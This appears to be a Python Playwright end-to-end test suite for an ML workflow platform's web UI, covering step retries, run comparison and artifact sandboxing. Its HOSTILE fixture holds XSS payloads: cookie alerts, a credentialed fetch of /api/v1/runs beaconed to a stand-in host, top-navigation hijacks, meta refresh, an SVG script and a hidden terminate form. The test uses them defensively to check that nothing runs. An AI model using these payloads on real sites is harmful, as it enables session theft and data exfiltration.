"""Runs at the page, in a real browser: a failed step is retried from its form, three runs are compared, and what a step
wrote to do harm does none."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.page_browser import leave, violations, visitor
from tests.e2e.page_world import CLOUD_EVENT, SETTINGS, TOKENS
from tests.e2e.platform_driver import Platform

pytestmark = [pytest.mark.integration, pytest.mark.slow, pytest.mark.timeout(480)]
SOON = 60_000
SENSOR = """\
apiVersion: retrain.dev/v1
kind: Sensor
metadata: {name: trainings}
spec:
  dependencies: [{name: asked, eventSourceName: lab, eventName: train}]
  triggers:
    - template:
        name: train
        argoWorkflow:
          operation: submit
          source:
            resource:
              apiVersion: argoproj.io/v1alpha1
              kind: Workflow
              metadata: {generateName: trial-}
              spec:
                workflowTemplateRef: {name: trial}
                arguments: {parameters: [{name: lr, value: ""}, {name: kind, value: ""}]}
          parameters:
            - {src: {dependencyName: asked, dataKey: lr}, dest: spec.arguments.parameters.0.value}
            - {src: {dependencyName: asked, dataKey: kind}, dest: spec.arguments.parameters.1.value}
"""
HOSTILE = """\
<!doctype html><meta charset=utf-8><title>Report</title>
<link rel=stylesheet href=/ui/static/page.css><link rel=prefetch href=http://127.0.0.1:9/prefetched>
<base href=http://127.0.0.1:9/><style>body{background:#cfe;margin:0}
button,a{position:absolute;left:0;width:300px;height:90px} button{top:0} a{top:100px;background:#fc9}
a+a{top:200px} p{position:absolute;top:300px}</style>
<body onload="top.location='http://127.0.0.1:9/onload'">
<form action=/ui/runs/terminate method=post target=_top><button>Press</button></form>
<a href=/ui/audit target=_top>Top</a><a href=http://127.0.0.1:9/clicked>Away</a>
<p>the report itself</p><img src=http://127.0.0.1:9/picture><img src=/api/v1/runs>
<iframe src=/api/v1/runs></iframe><object data=/api/v1/runs></object><embed src=/api/v1/runs>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<script>document.title='run'; alert(document.cookie);
fetch('/api/v1/runs', {credentials: 'include'}).then(r => r.text())
  .then(t => navigator.sendBeacon('http://127.0.0.1:9/beacon', t));
parent.document.body.innerHTML = 'gone'; top.location = 'http://127.0.0.1:9/top';</script>
"""
LEADING = "<!doctype html><meta http-equiv=refresh content='0;url=http://127.0.0.1:9/refreshed'>"
DRAWING = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='90'><script>alert(3)</script>"
    "<circle r='40' cx='45' cy='45'/></svg>"
)
WORKFLOW = """\
apiVersion: argoproj.io/v1alpha1
kind: WorkflowTemplate
metadata: {name: trial}
spec:
  entrypoint: all
  arguments: {parameters: [{name: lr}, {name: kind}]}
  templates:
    - name: all
      dag:
        tasks:
          - name: train
            template: train
            withItems: [linear, forest]
            arguments: {parameters: [{name: family, value: "{{item}}"}]}
          - {name: check, template: check, depends: train}
          - {name: report, template: report, depends: check}
      outputs:
        parameters:
          - {name: evaluation, valueFrom: {parameter: "{{tasks.report.outputs.parameters.evaluation}}"}}
    - name: train
      inputs: {parameters: [{name: family}]}
      container:
        image: alpine:3
        command: [sh, -c, "echo {{inputs.parameters.family}} begins; sleep 1; echo {{inputs.parameters.family}} ends"]
    - name: check
      script:
        image: alpine:3
        command: [sh]
        source: |
          [ {{workflow.parameters.kind}} = good ] || [ -e "$RETRAIN_PROJECT/mended" ] || exit 7
    - name: report
      script:
        image: alpine:3
        command: [sh]
        source: |
          cp "$RETRAIN_PROJECT/leading.html" leading.html; cp "$RETRAIN_PROJECT/hostile.html" report.html
          cp "$RETRAIN_PROJECT/drawing.svg" drawing.svg
          printf 'epoch,loss\\n1,0.5\\n2,0.{{workflow.parameters.kind}}\\n' > table.csv
          case {{workflow.parameters.lr}} in 0.1) a=0.91;; 0.01) a=0.95;; *) a=0.80;; esac
          printf '{"dataset": "holdout", "metrics": {"accuracy": %s}, ' $a > evaluation
          printf '"curves": {"roc": {"x": [0, 0.2, 1], "y": [0, %s, 1]}}}' $a >> evaluation
      outputs:
        parameters: [{name: evaluation, valueFrom: {path: evaluation}}]
        artifacts:
          - {name: report, path: report.html}
          - {name: drawing, path: drawing.svg}
          - {name: leading, path: leading.html}
          - {name: table, path: table.csv}
"""


@dataclass
class Lab:
    """A platform on which trainings are asked for."""

    platform: Platform
    sent: int = 0

    @property
    def url(self) -> str:
        return self.platform.url

    def train(self, lr: str, kind: str = "good", *, until: str = "Succeeded") -> str:
        """Ask for a training and wait until it has come so far; the name of its run."""
        self.sent += 1
        event = {"specversion": "1.0", "id": f"e-{self.sent}", "source": "lab", "type": "train", "subject": "train"}
        said = {"Authorization": f"Bearer {TOKENS['ben']}", **CLOUD_EVENT}
        answer = self.platform.send(
            "POST", "/api/v1/events", json.dumps({**event, "data": {"lr": lr, "kind": kind}}).encode(), said
        )
        assert answer.status == 202, answer

        def there() -> str | None:
            mine = [one for one in self.runs() if _value(one, "lr") == lr and _value(one, "kind") == kind]
            return next((one["metadata"]["name"] for one in mine if one["status"]["phase"] == until), None)

        return self.platform.wait(there, f"a run with lr={lr} has {until}")

    def runs(self) -> list[dict[str, Any]]:
        said = {"Authorization": f"Bearer {TOKENS['vic']}"}
        return self.platform.send("GET", "/api/v1/runs", None, said).body["items"]


def _value(run: dict[str, Any], name: str) -> str:
    return next(one["value"] for one in run["spec"]["arguments"]["parameters"] if one["name"] == name)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    place: Path = tmp_path_factory.mktemp("lab")
    platform = Platform(place)
    platform.write("retrain.yaml", SETTINGS)
    platform.write("sensor.yaml", SENSOR)
    platform.write("workflow.yaml", WORKFLOW)
    platform.write("hostile.html", HOSTILE)
    platform.write("drawing.svg", DRAWING)
    platform.write("leading.html", LEADING)
    with platform:
        yield Lab(platform)
        assert platform.stop() == 0


def test_a_failed_step_is_retried_from_its_form(lab: Lab, browser: Browser) -> None:
    name = lab.train("0.5", "broken", until="Failed")
    page = visitor(browser, lab.url, "eve", color_scheme="dark", java_script_enabled=True)

    page.goto(f"{lab.url}/ui/run?name={name}")
    failed = page.get_by_role("region", name="Steps that failed")
    expect(failed.get_by_role("row", name="check")).to_contain_text("exit code 7")
    assert violations(page) == []
    failed.get_by_role("link", name="check", exact=True).click()
    page.get_by_role("link", name="Retry from this step").click()
    expect(page.get_by_label("kind")).to_have_value("broken")
    assert violations(page) == []
    (lab.platform.project / "mended").touch()
    page.get_by_role("button", name="Retry").click()

    expect(page.get_by_role("definition").filter(has_text="Succeeded")).to_contain_text("4/4 steps", timeout=SOON)
    page.get_by_label("train(0:linear) side by side").check()
    page.get_by_label("train(1:forest) side by side").check()
    page.get_by_role("button", name="Logs of the chosen steps side by side").click()
    expect(page.get_by_role("row").filter(has_text="forest begins").first).to_contain_text("linear", timeout=SOON)
    assert violations(page) == []
    (lab.platform.project / "mended").unlink()
    leave(page)


def test_three_runs_are_compared(lab: Lab, browser: Browser) -> None:
    names = [lab.train(lr) for lr in ("0.1", "0.01", "0.001")]
    page = visitor(browser, lab.url, "vic", viewport={"width": 1280, "height": 1400})

    page.get_by_role("link", name="Runs", exact=True).click()
    page.get_by_label("Columns").fill("param:lr,metric:accuracy")
    page.get_by_role("button", name="Show").click()
    page.get_by_role("link", name="accuracy").click()
    best = page.get_by_role("region", name="Runs").get_by_role("row").nth(1)
    expect(best).to_contain_text("0.95")
    expect(page.get_by_text("Sorted by metric:accuracy: all")).to_be_visible()
    for name in names:
        page.get_by_label(f"Compare {name}").check()
    page.get_by_role("button", name="Compare the chosen").click()

    row = page.get_by_role("row", name="accuracy")
    expect(row).to_contain_text("higher is better")
    expect(row.get_by_role("cell").filter(has_text="0.95")).to_contain_text("best")
    expect(page.get_by_role("row", name="lr differs")).to_contain_text("0.001")
    expect(page.get_by_role("img", name=re.compile("^roc: "))).to_be_visible()
    found: list[str] = []
    for width in (360, 1280):
        page.set_viewport_size({"width": width, "height": 900})
        found += violations(page)
        wide = page.evaluate("document.documentElement.scrollWidth")
        found += [f"{wide} pixels on {width}"] if wide > width else []
    page.emulate_media(color_scheme="dark")
    assert found + violations(page) == []
    said = lab.platform.environment
    lab.platform.environment = {**said, "RETRAIN_SERVER_TOKEN": TOKENS["vic"]}
    assert "metric:accuracy" in lab.platform.command("runs", "compare", *names)
    lab.platform.environment = said
    leave(page)


def test_what_a_step_wrote_to_do_harm_does_none(lab: Lab, browser: Browser) -> None:
    name = lab.train("0.7")
    page = visitor(browser, lab.url, "eve", viewport={"width": 1200, "height": 1200})
    asked: list[str] = []
    answered: list[str] = []
    refused: list[Any] = []
    dialogs: list[str] = []
    page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
    page.goto(f"{lab.url}/ui/run?name={name}")
    page.locator("#view").get_by_role("link", name="report", exact=True).first.click()
    page.context.on("request", lambda one: asked.append(one.url))
    page.context.on("requestfailed", lambda one: refused.append((one.url, one.failure)))
    page.context.on("response", lambda one: answered.append(one.url))
    page.get_by_role("link", name="Look at report").click()
    where = page.url

    frame = page.locator("iframe.artifact")
    box = frame.bounding_box()
    assert box is not None
    page.frame_locator("iframe.artifact").get_by_text("the report itself").wait_for()
    for down in (45, 145, 245):
        page.mouse.click(box["x"] + 100, box["y"] + down)
        page.wait_for_timeout(400)  # nothing is there to be waited for: nothing must happen

    assert page.url == where
    assert dialogs == []
    expect(page.get_by_role("heading", level=1)).to_have_text("Artifact report")
    strange = [one for one in asked if not one.startswith(f"{lab.url}/ui/run/artifact") and "/ui/static/" not in one]
    # What the browser itself has refused by the policy never left it.
    assert {one for one in strange if (one, "csp") not in refused} == set()
    assert not [one for one in answered if "/api/v1" in one or ":9/" in one]
    assert violations(page) == []

    for name_of in ("drawing", "leading"):
        page.goto(where.replace("artifact=report", f"artifact={name_of}"))
        page.wait_for_timeout(700)  # as above
        assert dialogs == []
        assert page.url.endswith(f"artifact={name_of}")
    assert not [one for one in answered if "/api/v1" in one or ":9/" in one]
    page.goto(where.replace("artifact=report", "artifact=table"))
    expect(page.get_by_role("columnheader", name="loss")).to_be_visible()
    alone = page.request.get(where.replace("/artifact?", "/artifact/body?"))
    assert alone.headers["content-disposition"] == "attachment"
    assert next(one for one in lab.runs() if one["metadata"]["name"] == name)["status"]["phase"] == "Succeeded"
    page.context.close()
